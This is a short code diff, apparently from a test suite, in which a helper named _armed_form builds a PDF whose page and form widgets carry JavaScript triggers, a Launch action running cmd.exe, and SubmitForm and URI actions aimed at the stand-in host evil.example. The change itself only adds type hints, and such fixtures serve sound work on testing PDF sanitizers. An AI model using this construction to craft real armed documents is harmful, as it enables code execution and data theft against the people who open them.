@@ -66,14 +66,15 @@ def _armed_form() -> bytes:
             ),
         }
     )
-    acro_form = root["/AcroForm"]
+    acro_form: Any = root["/AcroForm"]
     acro_form[NameObject("/XFA")] = TextStringObject("<xdp/>")
     page = writer.pages[0]
     page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): js})
     launch = action("/Launch", F=TextStringObject("cmd.exe"))
     submit = action("/SubmitForm", F=TextStringObject("https://evil.example/"))
     uri = action("/URI", URI=TextStringObject("https://evil.example/"))
-    for i, annotation in enumerate(page["/Annots"]):
+    annotations: Any = page["/Annots"]
+    for i, annotation in enumerate(annotations):
         widget = annotation.get_object()
         widget[NameObject("/AA")] = DictionaryObject({NameObject("/K"): js, NameObject("/Fo"): js})
         widget[NameObject("/A")] = (launch, submit, uri)[i % 3]
